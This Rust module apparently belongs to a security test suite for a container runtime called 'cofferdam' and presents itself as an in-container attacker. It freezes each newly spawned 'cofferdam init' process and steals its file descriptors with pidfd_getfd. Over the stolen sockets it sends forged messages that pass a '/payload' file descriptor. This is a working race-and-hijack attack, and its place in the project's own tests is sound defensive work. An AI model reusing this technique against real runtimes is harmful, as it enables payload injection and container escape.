//! An attacker in the container: stops each process that joins at its birth, and says things in its place.

use crate::prowl::newest_pid;
use std::ffi::{c_int, c_long};
use std::fs::{self, File};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
    fn kill(pid: c_int, signal: c_int) -> c_int;
    fn sendmsg(fd: c_int, message: *const Message, flags: c_int) -> isize;
}

#[repr(C)]
struct Message {
    name: *const u8,
    name_length: u32,
    parts: *const Part,
    count: usize,
    control: *const Control,
    control_length: usize,
    flags: c_int,
}

#[repr(C)]
struct Part {
    bytes: *const u8,
    length: usize,
}

/// One descriptor by SCM_RIGHTS.
#[repr(C)]
struct Control {
    length: usize,
    level: c_int,
    kind: c_int,
    fd: c_int,
}

/// `forge`: until there is a file /stop. The answer: how many processes were stopped, and how many words were sent for them.
pub fn forge() -> String {
    println!("forging");
    let (mut stopped, mut sent) = (0, 0);
    let own = pidfd(std::process::id() as c_int);
    let file = File::open("/payload").expect("open");
    while fs::metadata("/stop").is_err() {
        let Some(pid) = stop_next() else {
            continue;
        };
        stopped += 1;
        std::thread::sleep(Duration::from_millis(5));
        let other = pidfd(pid);
        for number in 3..20 {
            let taken = unsafe { syscall(438, other as c_long, number as c_long, 0 as c_long) };
            if taken >= 0 {
                let taken = taken as c_int;
                sent += usize::from(say(taken, b"b", Some(own)));
                for (word, with) in [
                    (&b"c"[..], Some(file.as_raw_fd())),
                    (b"h", None),
                    (b"b\x01\0\0\0", Some(own)),
                    (b"r", None),
                    (b"s", None),
                ] {
                    sent += usize::from(say(taken, word, with));
                }
                unsafe { syscall(3, taken as c_long) };
            }
        }
        unsafe {
            syscall(3, other as c_long);
            kill(pid, 18);
        }
    }
    format!("{stopped} stopped, {sent} sent")
}

/// The next process to be born here, stopped.
fn stop_next() -> Option<c_int> {
    let next = newest_pid() as c_int + 1;
    let begin = Instant::now();
    while begin.elapsed() < Duration::from_millis(100) {
        if unsafe { kill(next, 19) } == 0 {
            let words = fs::read(format!("/proc/{next}/cmdline")).unwrap_or_default();
            if words.starts_with(b"cofferdam init") {
                return Some(next);
            }
            unsafe { kill(next, 18) };
        }
    }
    None
}

fn pidfd(pid: c_int) -> c_int {
    unsafe { syscall(434, pid as c_long, 0 as c_long) as c_int }
}

fn say(socket: c_int, word: &[u8], fd: Option<c_int>) -> bool {
    let part = Part {
        bytes: word.as_ptr(),
        length: word.len(),
    };
    let control = Control {
        length: 20,
        level: 1,
        kind: 1,
        fd: fd.unwrap_or(-1),
    };
    let with = fd.is_some();
    let message = Message {
        name: std::ptr::null(),
        name_length: 0,
        parts: &part,
        count: 1,
        control: if with { &control } else { std::ptr::null() },
        control_length: if with { size_of::<Control>() } else { 0 },
        flags: 0,
    };
    const MSG_DONTWAIT_NOSIGNAL: c_int = 0x4040;
    unsafe { sendmsg(socket, &message, MSG_DONTWAIT_NOSIGNAL) >= 0 }
}
